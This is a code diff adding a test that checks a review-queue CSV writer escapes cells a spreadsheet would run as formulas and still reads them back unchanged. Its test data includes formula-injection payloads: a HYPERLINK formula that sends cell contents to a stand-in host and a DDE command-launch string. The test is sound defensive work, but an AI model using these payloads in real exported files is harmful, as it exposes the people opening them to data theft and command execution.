@@ -128,6 +128,51 @@ def test_queue_csv_round_trip_keeps_line_breaks_and_every_missing_kind(tmp_path:
     assert b"\r\r\n" not in path.read_bytes()  # no newline translation
 
 
+def test_queue_csv_escapes_cells_a_spreadsheet_would_run_and_reads_them_back(tmp_path: Path):
+    texts = ['=HYPERLINK("http://evil.invalid/?"&A1, "x")', "+1+2", "-cmd|' /C calc'!A0", "@SUM(A1)", "\tlead", "\rcr"]
+    texts += ["'already quoted", "plain", "a=b", None]
+    n = len(texts)
+    current = pd.DataFrame(
+        {
+            "id": ["=1+1", "-7", *[f"r{i}" for i in range(n - 2)]],
+            "comment": pd.Series(texts, dtype=object),
+            "delta": np.linspace(-2.0, 2.0, n),  # a negative number is a number, not a formula
+        }
+    )
+    q = review_queue(
+        current,
+        ["-1"] * n,
+        np.linspace(0.3, 0.9, n),
+        size=n,
+        control=0,
+        seed=0,
+        id_column="id",
+        features=["comment", "delta"],
+    )
+    path = tmp_path / "review_queue.csv"
+    write_queue(q, path)
+    import csv
+
+    with path.open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    for row in rows:  # what a spreadsheet reads: no text cell starts like a formula
+        for column in ("id", "comment", "predicted_label"):
+            assert not row[column].startswith(starts), (column, row[column])
+    assert [r["comment"] for r in rows][:7] == ["'" + t for t in texts[:7]]
+    assert [r["comment"] for r in rows][7:9] == ["plain", "a=b"]
+    assert float(rows[0]["delta"]) == -2.0  # numbers are written as numbers
+    back = read_queue(path)
+    assert back["id"].tolist() == q["id"].tolist()
+    assert back["comment"].tolist()[:9] == texts[:9] and pd.isna(back["comment"].iloc[9])
+    assert back["predicted_label"].tolist() == ["-1"] * n
+    np.testing.assert_allclose(back["delta"], q["delta"])
+    # A reviewer returns the id as the spreadsheet shows it, or as the file's text has it.
+    returned = write(tmp_path, "r.csv", "id,label\n=1+1,neg\n'-7,pos\n")
+    labels, problems = validate_reviews([returned], current["id"], ["neg", "pos"])
+    assert labels.to_dict() == {"=1+1": "neg", "-7": "pos"} and problems == []
+
+
 def write(folder: Path, name: str, text: str) -> Path:
     path = folder / name
     path.write_text(text, encoding="utf-8")
